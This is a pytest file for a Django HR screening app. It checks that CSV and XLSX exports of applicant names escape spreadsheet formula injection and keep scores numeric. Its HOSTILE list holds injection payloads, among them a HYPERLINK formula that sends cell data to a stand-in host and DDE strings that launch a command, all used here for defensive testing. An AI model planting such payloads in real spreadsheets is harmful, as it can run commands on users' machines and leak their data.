"""HR's exports never hand a spreadsheet a formula: text that would be evaluated is written as text."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from screening.models import Application
from screening.services import applications_score
from tests.factories import ApplicantFactory, ApplicationFactory, ChecklistFactory, JobFactory, RequirementFactory

pytestmark = pytest.mark.django_db

# names as an applicant can type them into the form (or a job board's list carries them)
HOSTILE = [
    '=HYPERLINK("http://evil.test/?x="&B2,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
PLAIN = ["周一", "李-四", "#N/A"]


@pytest.fixture
def job():
    checklist = ChecklistFactory(slug="cs")
    RequirementFactory(
        checklist=checklist, code="edu", title="=1+2", condition={"kind": "education_at_least", "level": "senior_high"}
    )
    job = JobFactory(checklists=[checklist])
    for name in HOSTILE + PLAIN:
        ApplicationFactory(job=job, applicant=ApplicantFactory(name=name), profile={"education": "bachelor"})
    applications_score(application_ids=list(Application.objects.values_list("pk", flat=True)))
    return job


def _expected_names(*, xlsx=False):
    names = ["'" + name for name in HOSTILE] + PLAIN
    # XML reads a carriage return in a cell back as a line feed
    return sorted(name.replace("\r", "\n") if xlsx else name for name in names)


def test_csv_export_prefixes_formula_text_with_a_quote(hr_client, job):
    response = hr_client.get(reverse("hr:job_export_csv", args=[job.slug]))
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    header, body = rows[0], rows[1:]
    assert header[-1] == "'=1+2 (cs/edu)"
    assert sorted(row[0] for row in body) == _expected_names()
    score = header.index("得分")
    assert {row[score] for row in body} == {"100.0"}  # a number, not neutralised text


def test_xlsx_export_has_no_formula_cell_and_keeps_scores_numbers(hr_client, job):
    response = hr_client.get(reverse("hr:job_export_xlsx", args=[job.slug]))
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert [c.coordinate for c in cells if c.data_type != "s" and not isinstance(c.value, int | float)] == []
    assert [c.coordinate for c in cells if c.data_type in ("f", "e")] == []
    assert sorted(cell.value for cell in sheet["A"][1:]) == _expected_names(xlsx=True)
    assert sheet.cell(row=1, column=sheet.max_column).value == "'=1+2 (cs/edu)"
    header = [cell.value for cell in sheet[1]]
    scores = [row[header.index("得分")] for row in sheet.iter_rows(min_row=2)]
    assert {(cell.data_type, cell.value) for cell in scores} == {("n", 100)}


def test_a_control_character_in_a_name_does_not_break_the_xlsx_export(hr_client, job):
    ApplicationFactory(job=job, applicant=ApplicantFactory(name="王\x01五\x1b"), profile={"education": "bachelor"})
    response = hr_client.get(reverse("hr:job_export_xlsx", args=[job.slug]))
    assert response.status_code == 200
    names = [cell.value for cell in load_workbook(io.BytesIO(response.content)).active["A"][1:]]
    assert "王五" in names and len(names) == len(HOSTILE + PLAIN) + 1
